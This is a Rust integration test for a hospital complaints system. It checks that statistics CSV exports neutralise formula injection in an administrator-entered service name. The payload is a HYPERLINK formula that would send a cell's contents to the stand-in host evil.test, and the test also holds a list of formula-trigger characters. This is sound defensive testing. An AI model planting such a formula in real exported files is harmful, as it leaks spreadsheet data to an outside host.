//! Issue 11, finding 10: what an administrator types reaches the viewers' statistics CSV, and
//! a spreadsheet must open it as text, never as a formula.

mod common;

use common::http::Client;
use common::{complaint, Daemon};

const PASSWORD: &str = "una-password-lunga";
const EVIL_SERVICE: &str = r#"=HYPERLINK("http://evil.test/?"&A1,"Pronto soccorso")"#;

/// The rows of a CSV (BOM and `# name` lines of `ascolto export stats` skipped).
fn rows(text: &str, delimiter: u8) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .has_headers(false)
        .flexible(true)
        .comment(Some(b'#'))
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

#[test]
fn an_administrators_service_name_reaches_the_statistics_csv_as_text() {
    let mut d = Daemon::new(|db| {
        format!(
            "[database]\npath = \"{}\"\n\n[smtp]\nbackend = \"file\"\nfile_dir = \"{}\"\nfrom_address = \"urp@hospital.test\"\n",
            db.display(),
            db.parent().unwrap().join("sent").display()
        )
    });
    let inbox = d.dir.path().join("inbox");
    std::fs::create_dir(&inbox).unwrap();
    for i in 0..4 {
        let from = format!("cittadino{i}@example.test");
        std::fs::write(
            inbox.join(format!("{i}.eml")),
            complaint(&from, &format!("Reclamo {i}"), "Attesa in pronto soccorso."),
        )
        .unwrap();
    }
    let out = d.command().arg("import").arg(&inbox).output().unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    for role in ["admin", "viewer"] {
        d.add_user_with_password(&format!("{role}@hospital.test"), role, PASSWORD);
    }
    d.start();
    Client::wait_ready(&d.base_url());
    let number: String = d
        .db()
        .query_row("SELECT number FROM tickets ORDER BY id LIMIT 1", [], |r| {
            r.get(0)
        })
        .unwrap();
    let year = number[4..8].to_string();

    // The administrator names a service, and a ticket is classified under it.
    let mut admin = Client::sign_in(&d.base_url(), "admin@hospital.test", PASSWORD);
    let r = admin.post(
        "/amministrazione/servizi",
        "/amministrazione/servizi",
        &[("codice", "EVIL"), ("nome", EVIL_SERVICE)],
    );
    assert_eq!(r.status, 303, "{}", r.text());
    let service: i64 = d
        .db()
        .query_row("SELECT id FROM services WHERE code = 'EVIL'", [], |r| {
            r.get(0)
        })
        .unwrap();
    let r = admin.post(
        &format!("/reclami/{number}"),
        &format!("/reclami/{number}/classificazione"),
        &[("tipologia", "reclamo"), ("servizio", &service.to_string())],
    );
    assert_eq!(r.status, 303, "{}", r.text());

    // The viewer downloads the services table, for Excel and as RFC 4180.
    let viewer = Client::sign_in(&d.base_url(), "viewer@hospital.test", PASSWORD);
    for (format, delimiter, share) in [("", b';', "25,0"), ("&formato=rfc4180", b',', "25.0")] {
        let r = viewer.get(&format!(
            "/statistiche.csv?periodo=anno&anno={year}&tabella=servizi{format}"
        ));
        assert_eq!(r.status, 200);
        let table = rows(&r.text(), delimiter);
        let row = table
            .iter()
            .find(|row| row[0].contains("HYPERLINK"))
            .unwrap_or_else(|| panic!("no row for the service: {table:?}"));
        assert_eq!(
            row,
            &[
                format!("'{EVIL_SERVICE}"),
                "1".to_string(),
                share.to_string()
            ],
            "the name as text, the figures as numbers"
        );
    }

    // `ascolto export stats` writes the same tables.
    let out = d
        .command()
        .args(["export", "stats", "--year", &year, "--format", "csv"])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let all = rows(&String::from_utf8(out.stdout).unwrap(), b',');
    assert!(
        all.iter().any(|row| row[0] == format!("'{EVIL_SERVICE}")),
        "{all:?}"
    );
    for cell in all.iter().flatten() {
        let number = cell.parse::<f64>().is_ok();
        assert!(
            number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a formula: {cell:?}"
        );
    }
}
